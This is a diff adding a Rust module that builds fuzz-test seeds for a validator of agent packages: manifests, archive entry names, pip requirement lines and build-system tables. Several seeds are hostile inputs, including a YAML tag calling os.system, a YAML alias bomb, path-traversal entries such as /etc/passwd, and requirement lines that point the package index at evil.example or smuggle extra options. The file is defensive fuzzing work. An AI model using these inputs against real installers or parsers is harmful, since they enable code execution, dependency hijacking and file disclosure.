@@ -1,0 +1,77 @@
+//! Seed inputs for each fuzz target, built from the test fixtures so they
+//! cannot drift from what the tests exercise: the valid agent and every
+//! hostile archive, the manifests they carry, and the requirement lines and
+//! build tables that past findings were made of.
+
+use super::Target;
+use crate::apkg::AGENT_YAML;
+use crate::{Apkg, hostile_cases};
+
+/// `(file name, bytes)` for each seed of `target`.
+pub(super) fn of(target: Target) -> Vec<(String, Vec<u8>)> {
+    match target {
+        Target::Manifest => texts("seed", "yaml", &MANIFESTS),
+        Target::EntryName => texts("seed", "", &ENTRY_NAMES),
+        Target::Requirements => texts("seed", "txt", &REQUIREMENTS),
+        Target::BuildSystem => texts("seed", "toml", &BUILD_SYSTEMS),
+        // The extractor and the whole component take the same inputs.
+        Target::Archive | Target::Component => archives(),
+    }
+}
+
+fn texts(prefix: &str, extension: &str, items: &[&str]) -> Vec<(String, Vec<u8>)> {
+    let dot = if extension.is_empty() { "" } else { "." };
+    items
+        .iter()
+        .enumerate()
+        .map(|(i, text)| (format!("{prefix}-{i}{dot}{extension}"), text.as_bytes().to_vec()))
+        .collect()
+}
+
+fn archives() -> Vec<(String, Vec<u8>)> {
+    let mut seeds = vec![("valid-agent.apkg".to_owned(), Apkg::valid_agent().to_bytes())];
+    for (i, case) in hostile_cases().iter().enumerate() {
+        seeds.push((format!("hostile-{i:02}.apkg"), case.apkg.to_bytes()));
+    }
+    seeds
+}
+
+const MANIFESTS: [&str; 5] = [
+    AGENT_YAML,
+    include_str!("../../../examples/vivid-commenter/agent.yaml"),
+    "name: a\nversion: 1.10\nruntime:\n  python: \">=3.8\"\n",
+    "name: a\nversion: '1'\nx: !!python/object:os.system ls\n",
+    "name: a\nversion: '1'\nl0: &l0 [x, x]\nl1: [*l0, *l0]\n",
+];
+
+const ENTRY_NAMES: [&str; 6] = [
+    "core/langchain_util.py",
+    "../x",
+    "/etc/passwd",
+    "a\\b",
+    "C:/x",
+    "ui/static/",
+];
+
+const REQUIREMENTS: [&str; 10] = [
+    "# no external dependencies\n",
+    "fastapi==0.110.0\npydantic[email]>=2,<3 \\\n  ; python_version >= \"3.8\"\n",
+    "-e ./vendor/editable\n./vendor/helper\nhttpx==0.27.0 --hash=sha256:abc123\n",
+    "--index-url https://evil.example/simple\nevil @ https://evil.example/e.whl\n",
+    "-r other.txt\n-c constraints.txt\n../outside\n/etc/passwd\n--global-option=--evil\n",
+    // Past findings: an allowed option carrying another, a scheme before
+    // `@`, a path in a version, a quoted option.
+    "--pre -pi://\n--prefer-binary --index-url=http://127.0.0.1:9/simple\n--pre -f x\n",
+    "-e fbzr+ile:.@./x\nx===../../..\nx ; extra == '-i'\n",
+    "requests -f wheels\n--only-binary :all: --index-url https://evil.example\n--pre --find-links ./w\n",
+    "-e ./vendor --extra-index-url=https://evil.example\n--no-binary=a,b\npkg @ https://x/${PIP_INDEX_URL}\n",
+    "sneaky @ /home/someone/project\nsneaky @ ../../outside ; python_version > '3'\nok @ ./vendor/x\n-e file:../x\ngit+file:///r\n-e sneaky@/home/x\n-e fbzr+ile:.@./x\nx[a]@./y\n",
+];
+
+const BUILD_SYSTEMS: [&str; 5] = [
+    "[build-system]\nrequires = [\"setuptools>=64\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n",
+    "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\", \".\"]\n",
+    "[project]\nname = \"a\"\nversion = \"1\"\n[tool.black]\nline-length = 100\n",
+    "[build-system]\nrequires = [\"evil @ https://evil.example/e.whl\", \"-r /etc/passwd\", \"../x\"]\n",
+    "build-system = { requires = [\"a\"], backend-path = [\"../..\"] }\n",
+];
